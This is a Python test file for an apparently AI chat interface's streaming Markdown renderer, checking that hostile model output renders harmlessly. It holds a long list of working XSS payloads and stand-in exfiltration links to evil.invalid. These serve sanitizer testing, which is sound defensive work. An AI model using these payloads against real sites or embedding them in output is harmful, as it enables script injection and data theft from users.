"""Hostile model text: no script runs, nothing is asked of another host, no link is followed without a question."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

from tests.support.corpus_cases import table
from tests.support.live import Live
from tests.support.talker import Talker
from tests.support.visitor import ask, ended

EVIL = "https://evil.invalid/?q=secret"
DATA = "data:text/html,<script>parent.alert(1)</script>"
#: Tricks of Markdown itself. Every address is one that must not be asked.
TRICKS = [
    f"![x]({EVIL})",
    f"![x][ref]\n\n[ref]: {EVIL}",
    f'[![x]({EVIL} "t")]({EVIL})',
    f"[x]({EVIL})",
    f"[x][ref]\n\n[ref]: {EVIL}",
    f"![][ref] ![ref] ![ref][] [![y][ref]][ref]\n\n[REF]:\n<{EVIL}>\n'title \" onmouseover=alert(1)'",
    f"[a][__proto__] [b][constructor] ![c][toString]\n\n[__proto__]: {EVIL}\n[constructor]: javascript:alert(1)",
    f"[x][ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD4=\n[ref]: {EVIL}",
    "[^1]: <img src=x onerror=alert(1)>\n\nnote[^1]",
    "[x](javascript:alert(1))",
    "[x](  java\nscript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:alert(1))",
    f"[x]({DATA})",
    f"![x]({DATA})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)",
    '![x](data:image/png;base64,AAAA" onerror="alert(1))',
    '[x](https://evil.invalid/"onmouseover="alert(1) "a\\"onfocus=alert(1) autofocus")',
    "<javascript:alert(1)>",
    f"<{EVIL}>",
    f"see {EVIL} and www.evil.invalid and mail@evil.invalid",
    f"<img src={EVIL} onerror=alert(1)>",
    f"<svg><use href='{EVIL}#x'/><image href='{EVIL}'/><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}'><style>@import '{EVIL}';</style><base href='{EVIL}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><form action='{EVIL}'><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "$\\href{javascript:alert(1)}{x}$ and $\\url{javascript:alert(1)}$",
    f"$\\includegraphics{{{EVIL}}}$ and $\\htmlData{{a=b}}{{x}}$ and $\\htmlStyle{{background:url({EVIL})}}{{x}}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\def\\a{\\a\\a}\\a$ and $\\rule{99999em}{99999em}$",
    "\\(\\href{javascript:alert(1)}{x}\\) and \\[\\htmlClass{hidden}{\\htmlId{log}{x}}\\]",
    "$$\n\\verb|<img src=x onerror=alert(1)>| \\unicode{x3c}script\\unicode{x3e}\n$$",
    "$</math><script>alert(1)</script>$ and \\[</annotation><img src=x onerror=alert(1)>\\]",
    '$\\text{$\\text{"><svg onload=alert(1)>}$}$ and $`<img src=x onerror=alert(1)>`$ and $\\$',
    "$\\begin{matrix}" + "{" * 500 + "$ and $" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A href "javascript:alert(1)"\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\nflowchart LR\n"
    f"A[<iframe src={EVIL}>] --> B(<svg onload=alert(1)>)\nclick B call alert(1)\n```",
    "```svg\n<svg onload=alert(1)><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>\n```",
    "```math\n\\href{javascript:alert(1)}{x}\n```\n\n```latex\n$<script>alert(1)</script>$\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | y |",
    "- [x] <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
    "> <details open ontoggle=alert(1)>\n>\n> x",
    "# <a href=javascript:alert(1)>x</a>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "[x]: javascript:alert(1)\n\n[x] [x][] [y][x]",
    "event: failed\ndata: {}\n\nid: 9\n\n<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029\x00\ufeff<img src=x onerror=alert(1)>",
]
#: What must not be in the document, whoever wrote it.
FAULTS = """() => [...document.querySelectorAll("#log *")].filter((element) => {
    if (/^(script|iframe|object|embed|form|link|style|base|meta)$/i.test(element.nodeName)) return true;
    if (/^(svg|use|image|animate|set)$/i.test(element.nodeName)) return !element.closest("button");
    return [...element.attributes].some(({ name, value }) =>
        /^on|^style$|^srcset$|^formaction$/i.test(name) || /^\\s*(java|vb)script:|^data:text/i.test(value));
}).map((element) => element.outerHTML.slice(0, 200))"""


def payloads() -> list[str]:
    """The payloads that sanitizers are tested with."""
    return [case["payload"] for case in table("conformance/xss_payloads.json")["html"]]


def test_tricks_of_markdown(talker: Talker, open_page: Callable[..., Any]) -> None:
    """Each trick, streamed in random pieces, is harmless text; every link asks before it is followed."""
    _check_streamed(TRICKS, talker, open_page())


def test_payloads_streamed(talker: Talker, open_page: Callable[..., Any]) -> None:
    """Payloads, a few in one answer, streamed in random pieces, are harmless text."""
    known = payloads()
    _check_streamed(["\n\n".join(known[at : at + 6]) for at in range(0, len(known), 6)], talker, open_page())


def test_payloads_one_by_one(growing: Any) -> None:
    """Each payload by itself, drawn at every one of its random pieces, is harmless text."""
    rng = random.Random(12)
    for payload in payloads():
        growing.evaluate("(pieces) => grow(pieces, true)", _pieces(rng, payload))
    assert growing.evaluate(FAULTS) == []
    _click_links(growing)


def _check_streamed(texts: list[str], talker: Talker, page: Any) -> None:
    """Each text as an answer of its own, in pieces, over the wire; then every link is clicked."""
    rng = random.Random(11)
    talker.answers = {f"text {number}": _pieces(rng, text) for number, text in enumerate(texts)}
    for count in range(1, len(texts) + 1):
        ask(page, f"text {count - 1}")
        ended(page, count)
    assert page.evaluate(FAULTS) == []
    assert page.evaluate(
        "[...document.querySelectorAll('article.model > .text')].every((one) => one.textContent.trim())"
    )
    _click_links(page)
    assert len(page.context.pages) == 1


def _click_links(page: Any) -> None:
    unasked = page.evaluate(
        """() => [...document.querySelectorAll("#log a")].filter((link) =>
            ["click", "auxclick"].some((kind) => {
                const follows = link.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
                const isAsked = document.querySelector("#leave").open;
                document.querySelector("#leave").close();
                return follows || !isAsked;
            })).map((link) => link.outerHTML)"""
    )
    assert unasked == []


def _pieces(rng: random.Random, text: str) -> list[str]:
    pieces = []
    while text:
        size = rng.randint(1, 12)
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def test_the_policy_would_hold_by_itself(served: Live, chromium: Any) -> None:
    """A script or a picture that came into the document all the same is stopped by the content policy."""
    page = chromium.new_context().new_page()
    page.goto(served.url)
    tried = page.evaluate(
        """async (evil) => {
            const broken = [];
            addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
            const script = document.createElement("script");
            const tried = (work) => { try { work(); } catch { broken.push("trusted-types"); } };
            tried(() => { script.textContent = "alert(1)"; document.body.append(script); });
            tried(() => document.body.insertAdjacentHTML("beforeend", "<img onerror=alert(1)>"));
            const image = new Image();
            image.src = evil;
            document.body.append(image);
            const frame = document.createElement("iframe");
            frame.src = evil;
            document.body.append(frame);
            await fetch(evil).catch(() => {});
            await new Promise((resolve) => setTimeout(resolve, 200));
            return [...new Set(broken)].sort();
        }""",
        EVIL,
    )
    assert tried == ["connect-src", "frame-src", "img-src", "require-trusted-types-for", "trusted-types"]
    page.context.close()


MIXED = [
    "# Title\n\nSome *words* and `code`\nand more.\n\n- one\n- two\n\n  still two\n- three\n\nEnd.\n",
    "```python\nx = 1\n\n``\n~~~\n```\n\nAfter.\n\n````\n```\ninside\n```\n````\n",
    "| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |\n\nText after.\n",
    "1. a\n2. b\n\n\n3. c\n\nHeading\n=======\n\nText\n---\n\n> quote\nlazy\n\n***\n",
    "A [link][ref] first, defined later.\n\nMore.\n\n[ref]: https://a.test\n\nAgain [ref].\n",
    "Euler: $e^{i\\pi}+1=0$, \\(a_1\\) and it costs $5 or $6.\n\n$$\n\\int_0^1 x\\,dx\n$$\n\n\\[ y = 2 \\]\n\nEnd\n",
    "    indented code\n\n    more\n\ntext\n\n~~~\nno end",
    "<div>\n\n*x* <b>bold</b>\n\n</div>\n\n<!-- open\n\nstill -->\n\nEnd",
    "- a\n  ```\n  code\n  ```\n- b\n\n2) c\n3) d\n\n* x\n\n    deep\n",
    "One\r\ntwo\r\n\r\n- a\r\n- b\r\n\r\n```\r\ncode\r\n```\r\n",
]
WORDS = "a *b* `c` **d e** [f](https://g.test) $h_1$ i_j <k> http://l.test "
#: Blocks that are long enough to be drawn in part only, and what may come after them.
LONG = [
    f"{WORDS * 40}*open {WORDS} star*\nline\n{WORDS}\nTitle?\n===\nEnd",
    f"{WORDS * 30}\n- a list\n- at once\n",
    f"{WORDS * 30}\n\n[ref]: https://a.test\n\nMore [ref].",
    "".join(f"- {WORDS}\n" for _ in range(30)) + "\n  still\n- loose\n\n1. other\n",
    "".join(f"{n}. {WORDS}\n\n   ```python\n   x = {n}\n   ```\n\n" for n in range(20)) + "    code?\n\nEnd.",
    "".join(f"- {WORDS}\n  - in\n    1. deep\n" for _ in range(20)) + "lazy\n\n\n- one more\n* another\n",
    "| a | b |\n|:--|--:|\n" + f"| {WORDS} | 1 |\n" * 30 + "| half\nno row\n\nEnd",
    "> " + f"{WORDS}\n> " * 30 + "\n\nEnd",
    "~~~js\n" + "x = `1`\n" * 200 + "~~\n~~~\nEnd",
    "$$\n" + "x + y\n" * 200 + "$$\n\nEnd $x$",
]


def test_growing_ends_as_if_it_had_come_at_once(growing: Any) -> None:
    """However an answer is cut, and whenever it is drawn, it looks in the end as if it had come in one piece."""
    rng = random.Random(5)
    for text in [*MIXED, *TRICKS, *LONG]:
        whole = growing.evaluate("(text) => grow([text], false)", text)
        for pieces in (
            [*(_pieces(rng, text) for _ in range(5)), list(text)] if text not in LONG else [_pieces(rng, text)]
        ):
            assert growing.evaluate("(pieces) => grow(pieces, true)", pieces) == whole, text


def test_finished_blocks_are_left_alone(growing: Any) -> None:
    """What is finished is not drawn again: its elements stay the same ones while the answer goes on."""
    kept = growing.evaluate(
        """async () => {
            const box = await growingBox(["# One\\n\\nTwo\\n\\nThree\\nmo"]);
            const before = [...box.element.children].slice(0, 2);
            box.growing.push("re\\n\\nFour\\n\\nFive");
            box.growing.draw();
            return before.map((element, at) => element === box.element.children[at] && element.textContent);
        }"""
    )
    assert kept == ["One", "Two"]


def test_code_has_its_colours_while_it_grows(growing: Any) -> None:
    """Code is in its frame from the first line on, its whole lines get colours, and its text is what came."""
    lines = [f"def f{number}(x: int) -> int:\n    return x + {number}\n" for number in range(20)]
    found = growing.evaluate(
        """async (lines) => {
            const { element, growing } = await growingBox(["```python\\n", lines[0]]);
            const seen = [];
            for (let n = 0; n < 100 && !element.querySelector(".hljs-keyword"); n++) {
                await new Promise((done) => setTimeout(done, 20));
                growing.push(" ");
                growing.draw();
                if (n === 0) { growing.push("\\n" + lines[1]); growing.draw(); }
                if (n > 0) { growing.push("\\n"); growing.draw(); }
            }
            for (const line of lines.slice(2)) {
                growing.push(line);
                growing.draw();
                const code = element.querySelector(".tail .code pre code");
                seen.push(growing.text.endsWith(code.textContent) && code.querySelectorAll(".hljs-keyword").length);
            }
            return [seen, element.querySelector(".code-head span").textContent];
        }""",
        lines,
    )
    keywords, name = found
    assert name == "python"
    assert False not in keywords
    assert keywords[0] >= 2
    assert keywords[-1] > 25
